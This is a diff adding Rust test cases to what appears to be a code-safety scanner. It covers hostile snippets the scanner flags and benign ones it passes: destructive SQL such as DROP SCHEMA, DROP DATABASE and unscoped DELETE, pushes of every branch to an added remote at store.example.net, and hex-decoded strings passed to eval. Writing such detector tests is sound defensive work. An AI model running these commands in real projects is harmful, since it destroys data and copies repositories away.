@@ -10238,3 +10238,143 @@ fn a_filtered_comprehension_keeps_its_objects() {
         check(lang, &code, verdict, category);
     }
 }
+
+/// Destructive SQL handed to a database server's client library runs there as `psql -c`
+/// would: a schema, database or table dropped, a table truncated, every row deleted or
+/// updated destroys data the script did not make. A scoped `DELETE ... WHERE`, a migration
+/// that creates and alters tables, a reset of the loopback development database's tables and
+/// an SQLite file of the script's own temp dir stay clean.
+#[test]
+fn destructive_sql_through_a_database_client_destroys_data() {
+    let pg = "const { Client } = require('pg');\n\
+              const client = new Client({ connectionString: process.env.DATABASE_URL });\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Js,
+            format!("{pg}await client.query('DROP SCHEMA public CASCADE; CREATE SCHEMA public;');\n"),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Ts,
+            "import { Client } from \"pg\";\nconst maintenance = { statement: \"TRUNCATE TABLE events\" };\nasync function run(c: Client): Promise<void> {\n  await c.query(maintenance.statement);\n}\nrun(new Client());\n".to_owned(),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import psycopg2\nconn = psycopg2.connect('')\ncur = conn.cursor()\ncur.execute('DELETE FROM users')\n".to_owned(),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            format!("{pg}await client.query('DELETE FROM sessions WHERE id = $1', [id]);\n"),
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            format!("{pg}await client.query('CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN x int');\n"),
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { Client } = require('pg');\nconst client = new Client({ connectionString: 'postgres://app:app@localhost:5432/app_test' });\nawait client.query('TRUNCATE tasks, users RESTART IDENTITY CASCADE');\n".to_owned(),
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { Client } = require('pg');\nconst client = new Client({ connectionString: 'postgres://app:app@localhost:5432/app_test' });\nawait client.query('DROP DATABASE app_test');\n".to_owned(),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, sqlite3, tempfile\nd = tempfile.mkdtemp()\ndb = sqlite3.connect(os.path.join(d, 't.db'))\ndb.execute('DROP TABLE IF EXISTS items')\n".to_owned(),
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// A remote the script adds on a literal host off the allow list, then every branch (or the
+/// mirror) pushed there: the repository copied away. A URL built at run time stays
+/// suspicious; a tag and the current branch pushed to origin is clean.
+#[test]
+fn every_branch_pushed_to_a_remote_the_script_added_is_the_repository_copied_away() {
+    let cp = "const { execFileSync } = require('child_process');\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Js,
+            format!(
+                "{cp}execFileSync('git', ['remote', 'add', 'backup', 'https://store.example.net/r.git']);\nexecFileSync('git', ['push', '--quiet', 'backup', '--all']);\n"
+            ),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            format!(
+                "{cp}execFileSync('git', ['remote', 'add', 'backup', 'git@store.example.net:team/r.git']);\nexecFileSync('git', ['push', '--mirror', 'backup']);\n"
+            ),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            format!(
+                "{cp}execFileSync('git', ['remote', 'add', 'backup', process.argv[2]]);\nexecFileSync('git', ['push', 'backup', '--all']);\n"
+            ),
+            Suspicious,
+            "network",
+        ),
+        (
+            Js,
+            format!(
+                "{cp}execFileSync('git', ['tag', 'v1.2.0']);\nexecFileSync('git', ['push', 'origin', 'HEAD', '--tags']);\n"
+            ),
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// A decoder the script writes itself (hex pairs through `parseInt(h, 16)` into bytes and a
+/// `TextDecoder`) gives decoded text: run as code it is decode-to-exec. The same hex parsing
+/// of a colour that is only printed stays clean.
+#[test]
+fn a_hex_decoder_of_the_scripts_own_run_as_code_is_decode_to_exec() {
+    let decoder = "function fromHex(hex) {\n  const bytes = new Uint8Array(hex.match(/../g).map((h) => parseInt(h, 16)));\n  return new TextDecoder().decode(bytes);\n}\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Js,
+            format!("{decoder}const CODE = '636f6e736f6c652e6c6f672831293b';\nnew Function(fromHex(CODE))();\n"),
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            format!("{decoder}const CODE = '636f6e736f6c652e6c6f672831293b';\neval(fromHex(CODE));\n"),
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            "const hex = 'ff8800';\nconst rgb = hex.match(/../g).map((h) => parseInt(h, 16));\nconsole.log(`rgb(${rgb.join(', ')})`);\n".to_owned(),
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
